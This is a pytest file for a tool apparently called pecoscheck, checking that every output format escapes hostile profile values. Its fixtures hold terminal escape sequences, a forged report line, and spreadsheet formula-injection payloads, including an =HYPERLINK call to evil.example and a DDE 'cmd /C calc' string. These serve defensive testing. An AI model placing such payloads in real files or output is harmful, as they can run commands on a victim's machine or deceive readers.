"""Hostile values are neutralised in every output (issue 16): each sink of :mod:`pecoscheck.sinks`.

A profile holds a license number with terminal escapes (OSC 8 link, clear screen, CSI U+009B), a line
break followed by a forged report line, and NUL, BS, VT, FF, CR; the practitioner's name is a
spreadsheet formula; a file name holds an escape and a line break too. Every ``validate`` format and
every ``deadlines`` format is produced and checked against what its sink promises.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from helpers import make_profile
from pecoscheck import reporters, sinks
from pecoscheck.cli import app
from pecoscheck.deadline_formats import DEADLINE_FORMATS, render_csv
from pecoscheck.deadlines import Deadline
from pecoscheck.sinks import json_dumps

runner = CliRunner()
SRC = Path(__file__).resolve().parents[1] / "src" / "pecoscheck"

HOSTILE_YAML = r'"A1\e]8;;http://evil.example\a\e[2J\u009b31m\u202e\nother.yaml  READY (0 errors)\0\b\v\f\rX"'
HOSTILE = "A1\x1b]8;;http://evil.example\x07\x1b[2J\x9b31m\u202e\nother.yaml  READY (0 errors)\x00\b\v\f\rX"
FORGED = "other.yaml  READY (0 errors)"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "\t=1+1", "\r=1+1"]
UNSAFE_TERMINAL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = make_profile(tmp_path, "solo-practitioner", {
        "number: A178452": f"number: {HOSTILE_YAML}",
        "refers_to: CA}\n  # DEA": "refers_to: NV}\n  # DEA",  # LIC008 then quotes the license number
        "name: {first: Lucia,": 'name: {first: "=HYPERLINK(\\"http://evil.example\\")",',
    })
    bad_name = path.with_name("ev\x1b[2Jil\nother.yaml  READY (0 errors).yaml")
    bad_name.write_text(path.read_text("utf-8"), "utf-8")
    monkeypatch.chdir(path.parent)
    return path.parent


def _validate(folder: Path, fmt: str) -> str:
    r = runner.invoke(app, ["validate", ".", "-f", fmt, "--as-of", "2026-11-26", "--jobs", "1"],
                      env={"GITHUB_STEP_SUMMARY": ""})
    assert r.exit_code == 1, (fmt, r.stdout, r.stderr)
    assert HOSTILE[:2] in r.stdout or fmt in ("github", "roster"), fmt  # the hostile value was reported
    return r.stdout


def _strings(node: object) -> list[str]:
    if isinstance(node, str):
        return [node]
    if isinstance(node, dict):
        return [s for v in node.values() for s in _strings(v)]
    if isinstance(node, list):
        return [s for v in node for s in _strings(v)]
    return []


def _deadlines(folder: Path, fmt: str) -> str:
    r = runner.invoke(app, ["deadlines", ".", "-f", fmt, "--as-of", "2026-11-26", "--within", "3000"])
    assert r.exit_code == 0, (fmt, r.stdout, r.stderr)
    return r.stdout


def test_every_format_names_its_sink() -> None:
    assert set(sinks.FORMAT_SINKS) == set(reporters.FORMATS)
    assert set(sinks.DEADLINE_SINKS) == set(DEADLINE_FORMATS)


def test_reporters_go_through_the_sinks() -> None:
    """No reporter or deadline format escapes, encodes or masks by itself: all of it is in pecoscheck.sinks."""
    files = [*sorted((SRC / "reporters").glob("*.py")), SRC / "deadline_formats.py"]
    forbidden_modules = {"csv", "html"}
    for path in files:
        tree = ast.parse(path.read_text("utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                assert not {a.name for a in node.names} & forbidden_modules, (path.name, ast.dump(node))
            if isinstance(node, ast.ImportFrom) and node.module in ("findings", "masking"):
                assert "mask_identifiers" not in {a.name for a in node.names}, path.name
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
                assert (node.value.id, node.attr) not in {("json", "dumps"), ("html", "escape")}, path.name
        if path.name != "__init__.py":
            assert "sinks" in path.read_text("utf-8"), f"{path.name} does not use pecoscheck.sinks"


@pytest.mark.parametrize("fmt", ["text", "github", "roster"])
def test_terminal_and_annotations_show_no_control_and_forge_no_line(hostile: Path, fmt: str) -> None:
    out = _validate(hostile, fmt)
    assert UNSAFE_TERMINAL.findall(out) == []
    assert not any(line.startswith(FORGED) for line in out.splitlines())
    if fmt == "text":
        assert "\\x1b]8;;http://evil.example\\x07\\x1b[2J\\x9b31m\\u202e\\nother.yaml" in out  # shown escaped
        for line in out.splitlines():
            assert line == "" or line.startswith(("  ", "./", "ev", "profile.yaml", "0 of 2", "Across profiles:")), line
    elif fmt == "roster":
        assert "\\x1b[2J" in out
    else:
        assert all(line.startswith(("::", "pecoscheck:")) for line in out.splitlines()), out


def test_deadline_table_shows_no_control(hostile: Path) -> None:
    out = _deadlines(hostile, "table")
    assert UNSAFE_TERMINAL.findall(out) == []
    assert not any(line.lstrip().startswith(FORGED) for line in out.splitlines())
    assert "\\x1b[2J" in out


@pytest.mark.parametrize("fmt", ["junit", "html"])
def test_xml_and_html_hold_only_xml_characters(hostile: Path, fmt: str) -> None:
    out = _validate(hostile, fmt)
    assert re.findall("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", out) == []
    if fmt == "junit":
        ET.fromstring(out.encode("utf-8"))


@pytest.mark.parametrize("fmt", ["json", "sarif"])
def test_json_is_lossless(hostile: Path, fmt: str) -> None:
    out = _validate(hostile, fmt)
    assert any(HOSTILE in text for text in _strings(json.loads(out)))


def test_deadline_json_and_ics(hostile: Path) -> None:
    assert any(HOSTILE in text for text in _strings(json.loads(_deadlines(hostile, "json"))))
    ics = _deadlines(hostile, "ics")
    assert re.findall("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", ics) == []


def test_csv_cells_never_start_a_formula(hostile: Path) -> None:
    rows = list(csv.reader(io.StringIO(_deadlines(hostile, "csv"))))
    cells = [c for row in rows for c in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells)  # the name, neutralised
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(r"-\d+", c) for c in cells)


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_neutralises_each_formula_start_in_every_column(value: str) -> None:
    d = Deadline(what=value, kind="license_expires", date=date(2027, 1, 1), days_left=-3, rule=value, fix=value,
                 profile=value, path=value, provider=value, npi=value, line=4)
    [header, row] = list(csv.reader(io.StringIO(render_csv([d]))))
    by_column = dict(zip(header, row, strict=True))
    assert by_column["days_left"] == "-3" and by_column["line"] == "4"  # numbers stay numbers
    for column in ("what", "rule", "fix", "profile", "provider", "npi", "path"):
        assert by_column[column].startswith("'"), (column, by_column[column])


def test_github_drops_controls_and_escapes_as_the_toolkit() -> None:
    assert sinks.github_data("a%b\r\nc\x00\b\v\f\x1bd") == "a%25b%0D%0Acd"
    assert sinks.github_property("x:y,z\x1b") == "x%3Ay%2Cz"


def test_each_sink_on_its_own() -> None:
    assert sinks.terminal("a\x1b[2Jb\x9bc\nd") == "a\\x1b[2Jb\\x9bc\\nd"
    assert sinks.xml("a\x00b\x1bc\ufffed") == "abcd"
    assert sinks.html('<a href="x">\x00') == "&lt;a href=&quot;x&quot;&gt;"
    assert sinks.markdown("a|b`c\nd<e>") == "a\\|b'c d&lt;e&gt;"
    assert sinks.json_dumps("a\udce9\x1b") == '"a\\udce9\\u001b"'
    assert sinks.csv_cell(-3) == -3 and sinks.csv_cell("-3") == "'-3"


_scalars = (st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True, allow_infinity=True)
            | st.text(alphabet=st.characters(codec=None, exclude_categories=())))
_json_like = st.recursive(_scalars, lambda inner: st.lists(inner, max_size=4) | st.tuples(inner, inner)
                          | st.dictionaries(st.text(max_size=5), inner, max_size=4), max_leaves=30)


@given(_json_like, st.sampled_from([2, 4]))
@settings(max_examples=300, deadline=None)
def test_json_dumps_writes_what_the_standard_library_writes(data: object, indent: int) -> None:
    expected = json.dumps(data, indent=indent, ensure_ascii=False)
    expected = "".join(f"\\u{ord(c):04x}" if "\ud800" <= c <= "\udfff" else c for c in expected)
    assert json_dumps(data, indent=indent) == expected


def test_json_dumps_leaves_unusual_data_to_the_standard_library() -> None:
    data = {"a": [1, {2: "two", None: 3}], "b": "\ud800"}
    assert json_dumps(data) == json.dumps(data, indent=2, ensure_ascii=False).replace("\ud800", "\\ud800")
